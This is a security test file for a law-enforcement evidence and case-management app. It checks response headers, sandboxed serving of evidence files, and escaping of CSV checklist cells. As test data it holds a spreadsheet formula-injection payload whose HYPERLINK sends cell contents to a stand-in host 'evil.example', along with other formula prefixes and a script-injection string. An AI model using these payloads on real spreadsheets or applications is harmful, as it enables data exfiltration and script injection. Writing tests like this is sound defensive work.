import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fakeMp4, ingestBytes } from '../support/av-records.js';
import { makeAgency, makeEnforcementTeam } from '../support/factories.js';
import { client, signInAs, type Session } from '../support/http-client.js';
import { adminPassword, startTestApp, type TestApp } from '../support/test-app.js';
import { SEIZURE_FACTS } from '../support/custody-facts.js';

type Team = Awaited<ReturnType<typeof makeEnforcementTeam>>;
type Res = { statusCode: number; headers: Record<string, unknown>; body: string };

const csp = (res: Res) => String(res.headers['content-security-policy'] ?? '');
function expectBaseHeaders(res: Res) {
  expect(res.headers['x-content-type-options'], `${res.statusCode} ${res.body.slice(0, 100)}`).toBe('nosniff');
  expect(String(res.headers['x-frame-options'])).toMatch(/SAMEORIGIN|DENY/);
  expect(csp(res)).toMatch(/frame-ancestors '(self|none)'/);
}
function expectSandboxed(res: Res) {
  expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
  expectBaseHeaders(res);
  expect(csp(res)).toMatch(/(^|; )sandbox(;|$)/);
  expect(csp(res)).toContain("default-src 'none'");
}

// Issue 10 "Content and headers": no response carried X-Content-Type-Options, a CSP or frame
// protection; a checklist CSV cell starting with =HYPERLINK( was exported as a live formula
// (NFR-1, INT-2, CHK-3).
describe('security headers on every response; served evidence sandboxed; spreadsheet cells escaped', () => {
  let t: TestApp;
  let admin: Session;
  let team: Team;
  const as = () => client(t.app, team.handler.session);

  beforeAll(async () => {
    t = await startTestApp();
    admin = await signInAs(t.app, 'admin', adminPassword);
    team = await makeEnforcementTeam(t.app, admin);
  });
  afterAll(() => t.close());

  it('NFR-1 JSON answers and errors carry nosniff, frame protection and a strict CSP (scripts only from self)', async () => {
    for (const res of [await as().get('/api/health'), await as().get('/api/auth/me'), await as().get('/api/nothing-here'), await as().post(`/api/agencies/${team.agency.id}/matters`, { title: 5 }), await as().get(`/api/agencies/${'x'.repeat(300)}/matters`)]) {
      expectBaseHeaders(res);
      if (res.statusCode !== 414) expect(csp(res)).toMatch(/script-src 'self'(;|$)/);
      expect(csp(res)).not.toMatch(/script-src[^;]*unsafe/);
    }
  });

  it('AV-6 DOC-5 served media and documents are sandboxed: AV playback, PDF, DOCX, the print page', async () => {
    const record = await ingestBytes(t, team.agency.id, fakeMp4(4000), { officerId: team.handler.officer.id }); // seen by its officer (ACC-1)
    expectSandboxed(await as().get(`/api/agencies/${team.agency.id}/av-records/${record.id}/content`));
    const base = `/api/agencies/${team.agency.id}/matters`;
    const matterId = (await as().post(base, { category: 'coercive_measure', startRoute: 'emergency', title: '扣押涉案设备', officerIds: [team.handler.officer.id, team.secondOfficer.id] })).json().id;
    await as().post(`${base}/${matterId}/steps`, { step: 'emergency_start', occurredAt: t.clock.now().toISOString() });
    const stepId = (await as().post(`${base}/${matterId}/steps`, { step: 'seizure', occurredAt: t.clock.now().toISOString(), note: '现场扣押', details: SEIZURE_FACTS })).json().id;
    const created = await as().post(`${base}/${matterId}/documents`, { typeId: 'seizure_decision', stepId, fields: { reason: '<script>alert(1)</script>' } });
    expect(created.statusCode, created.body).toBe(201);
    const doc = created.json();
    for (const kind of ['pdf', 'docx', 'print']) expectSandboxed(await as().get(`/api/agencies/${team.agency.id}/documents/${doc.id}/${kind}`));
  });

  it('CHK-3 a checklist cell starting with = + - @ or a tab is exported escaped, not as a live formula', async () => {
    const agencyId = (await makeAgency(t.app, admin)).id;
    const a = client(t.app, admin);
    expect((await a.post(`/api/agencies/${agencyId}/policy/choose`, { profileId: 's1-fushun-culture-market', basis: '采用' })).statusCode).toBe(201);
    const rows = (await a.get(`/api/agencies/${agencyId}/policy`)).json().current.profile.checklist.rows as Array<{ condition: string | null }>;
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', '+1+1', '-2+3', '@SUM(A1)', '\t=1'];
    const edited = rows.map((r, i) => (i < evil.length ? { ...r, condition: evil[i] } : r));
    const res = await a.post(`/api/agencies/${agencyId}/policy/adjust`, { checklistRows: edited, basis: '清单修订' });
    expect(res.statusCode, res.body).toBe(201);
    const csv = (await a.get(`/api/agencies/${agencyId}/policy/checklist.csv`)).body;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点此"")"`);
    for (const cell of ["'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1"]) expect(csv).toContain(cell);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
